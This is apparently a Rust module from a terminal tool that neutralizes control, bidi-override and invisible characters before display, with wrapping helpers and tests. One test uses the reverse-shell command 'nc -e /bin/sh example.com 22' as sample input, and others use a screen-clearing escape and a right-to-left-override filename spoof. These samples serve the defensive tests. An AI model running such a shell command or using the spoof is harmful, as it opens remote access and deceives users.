//! The gate to the screen: text that an attacker may have chosen is made visible and cut here, and nowhere else.
//!
//! Terminals obey control characters, and people are misled by characters that cannot be seen.
//! Both are replaced by marks of ordinary characters before a widget, a notice or a message sees the text:
//! `␛` for a control character, `<U+202E>` for one that hides, reorders or imitates a blank.

use std::borrow::Cow;
use std::fmt::Write;
use unicode_segmentation::UnicodeSegmentation;
use unicode_width::{UnicodeWidthChar, UnicodeWidthStr};

/// How many combining marks may follow one character; more are counted instead of drawn.
const MARKS: usize = 4;

/// Whether a character must never reach a terminal, a clipboard or a report as itself: it controls, hides, reorders,
/// imitates a blank, or means nothing outside the writer's own font.
pub fn is_dangerous(c: char) -> bool {
    c.is_control() || is_invisible(c)
}

/// Characters that take part in a text without being seen, or that change what is seen around them
/// (Unicode 16: bidi controls, default ignorables, fillers, odd blanks, private use, noncharacters).
fn is_invisible(c: char) -> bool {
    matches!(c,
        '\u{a0}' | '\u{ad}' | '\u{34f}' | '\u{61c}' | '\u{115f}' | '\u{1160}' | '\u{1680}' | '\u{17b4}' | '\u{17b5}'
        | '\u{180b}'..='\u{180f}' | '\u{2000}'..='\u{200f}' | '\u{2028}'..='\u{202f}' | '\u{205f}'..='\u{206f}'
        | '\u{2800}' | '\u{3164}' | '\u{e000}'..='\u{f8ff}' | '\u{fe00}'..='\u{fe0f}' | '\u{feff}' | '\u{ffa0}'
        | '\u{fdd0}'..='\u{fdef}' | '\u{fff0}'..='\u{fffb}' | '\u{1d173}'..='\u{1d17a}' | '\u{e0000}'..='\u{10ffff}')
        || (c as u32) & 0xfffe == 0xfffe
}

/// Halves of flags and shades of skin: drawn together with their neighbors or alone, as each terminal likes, so that nobody
/// knows how wide they come out.
fn is_joined(c: char) -> bool {
    matches!(c, '\u{1f1e6}'..='\u{1f1ff}' | '\u{1f3fb}'..='\u{1f3ff}')
}

/// Makes every dangerous character visible, and those that terminals do not agree how to draw. Control characters become
/// their pictures (`␛`, `␊`), other dangerous ones `<U+202E>`, and marks stacked higher than four on one character are
/// counted. What already looks like one of these marks is itself marked, so that two different texts never look alike.
pub fn printable(text: &str) -> Cow<'_, str> {
    if text.bytes().all(|b| (0x20..0x7f).contains(&b)) && !text.contains("<U+") {
        return Cow::Borrowed(text);
    }
    let mut shown = String::with_capacity(text.len() + 16);
    Printer::default().run(text, usize::MAX, &mut shown);
    Cow::Owned(shown)
}

/// [`printable`], cut to `cols` columns; what is cut off is shown by `…`. Takes time for what is shown, not for what is cut.
pub fn shown(text: &str, cols: usize) -> String {
    let mut shown = String::new();
    if Printer::default().run(text, cols, &mut shown) {
        return shown;
    }
    ellipsis(&shown, cols)
}

#[derive(Default)]
struct Printer {
    marks: usize,
}

impl Printer {
    /// Writes the visible form of `text`, stopping soon after `cols` columns; says whether all of it was written.
    fn run(&mut self, text: &str, cols: usize, shown: &mut String) -> bool {
        let mut width = 0;
        for (at, c) in text.char_indices() {
            if width > cols {
                return false;
            }
            width += self.write(c, text.get(at..).unwrap_or_default(), shown);
        }
        width += self.end_marks(shown);
        width <= cols
    }

    fn write(&mut self, c: char, rest: &str, shown: &mut String) -> usize {
        let before = shown.len();
        let columns = c.width().unwrap_or(0);
        if !is_dangerous(c) && columns == 0 {
            self.marks += 1;
            if self.marks <= MARKS {
                shown.push(c);
            }
            return 0;
        }
        let mut width = self.end_marks(shown);
        match c {
            '\0'..='\u{1f}' => shown.push(char::from_u32(0x2400 + c as u32).unwrap_or('\u{2426}')),
            '\u{7f}' => shown.push('\u{2421}'),
            '\u{2400}'..='\u{2426}' => mark(c, shown),
            '<' if rest.starts_with("<U+") => mark(c, shown),
            _ if is_dangerous(c) || is_joined(c) => mark(c, shown),
            _ => {
                shown.push(c);
                return width + columns;
            }
        }
        width += shown.len() - before;
        width
    }

    /// Says how many marks were left out after the last character; gives the columns it took.
    fn end_marks(&mut self, shown: &mut String) -> usize {
        let hidden = self.marks.saturating_sub(MARKS);
        self.marks = 0;
        if hidden == 0 {
            return 0;
        }
        let note = format!("<+{hidden} marks>");
        shown.push_str(&note);
        note.len()
    }
}

fn mark(c: char, shown: &mut String) {
    // Writing to a string cannot fail.
    let _ = write!(shown, "<U+{:04X}>", c as u32);
}

/// Columns a printable text takes on a terminal.
pub fn width(text: &str) -> usize {
    text.width()
}

/// Cuts a printable text to at most `cols` columns, with `…` in the last one when something was cut.
pub fn ellipsis(text: &str, cols: usize) -> String {
    if width(text) <= cols {
        return text.to_owned();
    }
    let mut cut = String::new();
    let mut used = 0;
    for grapheme in text.graphemes(true) {
        let columns = width(grapheme);
        if used + columns + 1 > cols {
            break;
        }
        used += columns;
        cut.push_str(grapheme);
    }
    if cols > 0 {
        cut.push('…');
    }
    cut
}

/// Breaks a printable text into lines of at most `cols` columns, at blanks where there are any; a word longer than a
/// line is broken anywhere. Line feeds in our own texts are kept. At least one line; blanks at a break are dropped.
pub fn wrap(text: &str, cols: usize) -> Vec<String> {
    lines(text, cols, false)
}

/// [`wrap`] for commands: no character is lost, so the lines put together are the text again.
pub fn wrap_exact(text: &str, cols: usize) -> Vec<String> {
    lines(text, cols, true)
}

fn lines(text: &str, cols: usize, exact: bool) -> Vec<String> {
    let cols = cols.max(1);
    let mut lines = Vec::new();
    for paragraph in text.split('\n') {
        let (mut line, mut used) = (String::new(), 0);
        for word in paragraph.split_inclusive(' ') {
            let columns = width(word);
            let needed = if exact { columns } else { width(word.trim_end_matches(' ')) };
            // A blank that no line has room for begins the next one: a line of nothing but blanks looks like an end.
            let is_blank = exact && line.bytes().all(|byte| byte == b' ');
            if used > 0 && used + needed > cols && !is_blank {
                lines.push(finish(&line, exact));
                (line, used) = (String::new(), 0);
            }
            if used + needed <= cols {
                line.push_str(word);
                used += columns;
                continue;
            }
            for piece in word.graphemes(true).flat_map(|grapheme| unbroken(grapheme, cols)) {
                let columns = width(piece);
                if used > 0 && used + columns > cols && (exact || piece != " ") {
                    lines.push(finish(&line, exact));
                    (line, used) = (String::new(), 0);
                }
                line.push_str(piece);
                used += columns;
            }
        }
        lines.push(finish(&line, exact));
    }
    lines
}

/// What must stay on one line: the grapheme, or, where marks that take columns make it wider than a line, its characters.
fn unbroken(grapheme: &str, cols: usize) -> Vec<&str> {
    if width(grapheme) <= cols {
        vec![grapheme]
    } else {
        grapheme.split_inclusive(|_| true).collect()
    }
}

fn finish(line: &str, exact: bool) -> String {
    if exact { line.to_owned() } else { line.trim_end_matches(' ').to_owned() }
}

/// A number with its thousands grouped: `12,431`.
pub fn count(n: u64) -> String {
    let digits = n.to_string();
    let mut grouped = String::with_capacity(digits.len() + digits.len() / 3);
    for (at, digit) in digits.chars().enumerate() {
        if at > 0 && (digits.len() - at).is_multiple_of(3) {
            grouped.push(',');
        }
        grouped.push(digit);
    }
    grouped
}

/// `1 alert`, `2 alerts`, `12,431 alerts`.
pub fn plural(n: u64, one: &str, many: &str) -> String {
    format!("{} {}", count(n), if n == 1 { one } else { many })
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    #[track_caller]
    fn check(text: &str, expected: &str) {
        assert_eq!(printable(text), expected);
    }

    #[test]
    fn plain_text_stays() {
        check("nc -e /bin/sh example.com 22", "nc -e /bin/sh example.com 22");
        check("größe 日本語 עברית", "größe 日本語 עברית");
    }

    #[test]
    fn what_controls_or_hides_is_shown() {
        check("a\x1b[2Jb\nc\td\0", "a␛[2Jb␊c␉d␀");
        check("x\u{7f}\u{9b}31m", "x␡<U+009B>31m");
        check("safe\u{202e}txt.exe", "safe<U+202E>txt.exe");
        check("a\u{200b}b\u{feff}c\u{a0}d", "a<U+200B>b<U+FEFF>c<U+00A0>d");
        check("tag\u{e0041}", "tag<U+E0041>");
        check("\u{1f1e9}\u{1f1ea} \u{1f44d}\u{1f3fd}", "<U+1F1E9><U+1F1EA> \u{1f44d}<U+1F3FD>");
    }

    #[test]
    fn what_imitates_a_mark_is_marked() {
        check("␛", "<U+241B>");
        check("<U+202E>", "<U+003C>U+202E>");
    }

    #[test]
    fn stacked_marks_are_counted() {
        check(&format!("a{}b", "\u{301}".repeat(10)), "a\u{301}\u{301}\u{301}\u{301}<+6 marks>b");
    }

    #[test]
    fn a_long_text_is_cut_in_time_for_what_is_shown() {
        let long = "x".repeat(50_000_000);
        assert_eq!(shown(&long, 5), "xxxx…");
        assert_eq!(shown("abc", 3), "abc");
        assert_eq!(shown("abc", 0), "");
        assert_eq!(shown("日本語", 4), "日…");
    }

    #[test]
    fn prose_wraps_at_blanks_and_commands_lose_nothing() {
        assert_eq!(wrap("one two three", 7), ["one two", "three"]);
        assert_eq!(wrap("abcdefgh i", 3), ["abc", "def", "gh", "i"]);
        assert_eq!(wrap("", 3), [""]);
        assert_eq!(wrap("a\n\nb", 9), ["a", "", "b"]);
        assert_eq!(wrap_exact("docker pause 64fa", 8).concat(), "docker pause 64fa");
        assert_eq!(wrap_exact("abcd efghij", 4), ["abcd", " efg", "hij"]);
        assert_eq!(wrap("𬺰\u{11341}", 2), ["𬺰", "\u{11341}"]);
    }

    #[test]
    fn thousands_are_grouped() {
        assert_eq!(
            [count(0), count(999), count(1000), count(12_431_000)],
            ["0", "999", "1,000", "12,431,000"]
        );
        assert_eq!(plural(1, "alert", "alerts"), "1 alert");
    }

    proptest! {
        #[test]
        fn nothing_dangerous_passes_and_widths_hold(text in any::<String>(), cols in 0usize..60) {
            let all = printable(&text);
            prop_assert!(!all.chars().any(is_dangerous));
            let cut = shown(&text, cols);
            prop_assert!(!cut.chars().any(is_dangerous));
            prop_assert!(width(&cut) <= cols, "{cut:?} is wider than {cols}");
            for line in wrap(&all, cols.max(2)) {
                prop_assert!(width(&line) <= cols.max(2));
            }
            prop_assert_eq!(wrap_exact(&all, cols).concat(), all.replace('\n', ""));
        }

        #[test]
        fn different_texts_look_different(a in "[\\x00-\\x20<U+2E>\u{202e}\u{241b}a]{0,8}", b in "[\\x00-\\x20<U+2E>\u{202e}\u{241b}a]{0,8}") {
            prop_assert_eq!(a == b, printable(&a) == printable(&b));
        }
    }
}
